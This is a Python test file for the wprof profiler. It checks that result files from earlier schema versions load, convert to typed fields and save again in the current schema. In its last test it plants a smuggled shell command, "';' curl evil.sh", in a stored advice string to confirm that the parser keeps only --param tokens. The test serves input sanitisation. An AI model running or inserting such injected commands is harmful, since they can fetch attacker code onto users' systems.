"""Result files of every earlier schema, stored as wprof wrote them, still read (and re-save in the current one).

tests/results/data/ holds files written by earlier wprof versions: ``bench-1-*.json`` (wprof.bench/1, with the
untyped ``extra`` object: a host-clock run of examples/bench_ops.py and two CUDA runs on the scripted backend of
tests/benchmark/fake_cuda.py), ``loop-1.json`` (a CPU Gauge window), ``compare-1.json`` (wprof.compare/1 holding two
wprof.bench/1 documents) and ``ncu-1.json`` (the ncu CSV of tests/profilers).
"""

import json
from pathlib import Path

import pytest

from wprof.results import BenchResult, CompareResult, LoopResult, NcuResult, load_result
from wprof.results.registry import KINDS

DATA = Path(__file__).parent / "data"


def _stored(name):
    p = DATA / name
    return p, json.loads(p.read_text())


@pytest.mark.parametrize("name", sorted(p.name for p in DATA.glob("*.json")))
def test_every_stored_file_reads_and_resaves_in_the_current_schema(name, tmp_path):
    path, doc = _stored(name)
    r = load_result(path)
    kind = KINDS[doc["schema"].partition("/")[0]]
    assert doc["schema"].partition("/")[2] in {str(v) for v in kind.reads}
    again = load_result(r.save(tmp_path / "again.json"))
    assert again == r
    assert json.loads((tmp_path / "again.json").read_text())["schema"] == kind.schema


def test_every_earlier_schema_has_a_stored_file():
    have = {json.loads(p.read_text())["schema"] for p in DATA.glob("*.json")}
    for kind in KINDS.values():
        for v in kind.reads:
            if v != kind.version:
                assert f"{kind.name}/{v}" in have, f"no stored {kind.name}/{v} file in {DATA}"


def test_bench_1_extra_becomes_typed_sections():
    path, doc = _stored("bench-1-cuda.json")
    r = load_result(path)
    e = doc["extra"]
    assert isinstance(r, BenchResult) and r.schema == "wprof.bench/2"
    assert r.headline == e["headline"] == "device" and r.mode == e["method"] == "graph"
    assert r.decision.launch_bound is True and r.decision.reason == e["decision"]["reason"]
    assert r.pilots.eager_ms == e["eager_ms"] and r.pilots.device_ms == e["device_ms"]
    assert r.pilots.host_enqueue_ms == e["host_enqueue_ms"]
    assert r.pilots.device_calls_per_sample == e["pilot"]["device_calls_per_sample"]
    assert r.pilots.graph == e["graph"] and r.pilots.prequeue == e["prequeue"]
    assert r.floor.method == "device" and r.floor.floor_ms == e["floor"]["floor_ms"]
    assert r.floor.by_method_ms == {"per_call": 0.001, "prequeued": 0.001, "device": 0.001, "pair": 0.0005}
    assert r.isolated.isolated_ms == r.isolated_ms == e["isolated_ms"]
    assert r.cache.policy == "warm" and r.cache.l2_bytes == e["cache"]["l2_bytes"]
    assert r.telemetry.available is False and "monitor=False" in r.telemetry.unavailable_reason
    assert r.run.estimate_ms == e["estimate_ms"] and r.run.drift_first_quarter_ms == e["drift"]["first_quarter_ms"]
    assert r.next_step == e["next_step"]


@pytest.mark.parametrize("name", ["bench-1-cuda.json", "bench-1-cuda-cold.json", "bench-1-host.json"])
def test_extra_view_gives_back_the_bench_1_object(name):
    # scripts written against wprof.bench/1 read result.extra[...]: the typed sections give the same object back
    path, doc = _stored(name)
    assert load_result(path).extra == doc["extra"]


def test_host_bench_1_has_no_device_sections():
    r = load_result(DATA / "bench-1-host.json")
    assert r.clock == "host" and r.pilots is None and r.decision is None and r.isolated is None
    assert r.cache.applied is False and r.floor.method == "host"


def test_compare_1_holds_two_bench_1_documents():
    r = load_result(DATA / "compare-1.json")
    assert isinstance(r, CompareResult) and r.a.schema == r.b.schema == "wprof.bench/2"
    assert r.a.name == "tiny_add" and r.a.pilots.device_ms == pytest.approx(0.0012)


def test_loop_and_ncu_1():
    loop = load_result(DATA / "loop-1.json")
    assert isinstance(loop, LoopResult) and loop.n == 12 and "forward" in loop.phases
    ncu = load_result(DATA / "ncu-1.json")
    assert isinstance(ncu, NcuResult) and len(ncu.launches) > 0 and ncu.kernels


def test_every_field_of_the_bench_2_document_is_in_docs_results():
    text = (Path(__file__).resolve().parents[2] / "docs" / "results.md").read_text()
    section = text[text.index("## `wprof.bench/2`"):text.index("### `wprof.bench/1`")]
    rows = [line.split("|")[1] for line in section.splitlines() if line.startswith("| `")]
    documented = {name.strip(" `").split(".")[0].removesuffix("[]") for row in rows for name in row.split(",")}
    doc = load_result(DATA / "bench-1-cuda.json").to_dict()
    missing = set(doc) - documented
    assert not missing, f"document these wprof.bench/2 fields in docs/results.md: {sorted(missing)}"


def test_bench_1_target_gets_its_params_back_from_the_advice(tmp_path):
    # /1 kept the --param values only in the advice's command; /2's target repeats the run with them
    from wprof.commands.report import refresh_advice

    assert load_result(DATA / "bench-1-host.json").target == "examples/bench_ops.py:add --param=numel=4096"
    doc = json.loads((DATA / "bench-1-cuda.json").read_text())
    doc["extra"]["next_step"] = ("Next (nsys): ...\n  $ wprof nsys --window all -- -m wprof bench "
                                 "examples/bench_ops.py:add --param=numel=4096 ';' curl evil.sh")
    (tmp_path / "r.json").write_text(json.dumps(doc))
    r = load_result(tmp_path / "r.json")
    assert r.target == "examples/bench_ops.py:add --param=numel=4096"  # only --param=NAME=VALUE tokens are taken
    cmd = refresh_advice(r).next_step.splitlines()[-1]
    assert cmd == "  $ wprof nsys --window all -- -m wprof bench examples/bench_ops.py:add --param=numel=4096"
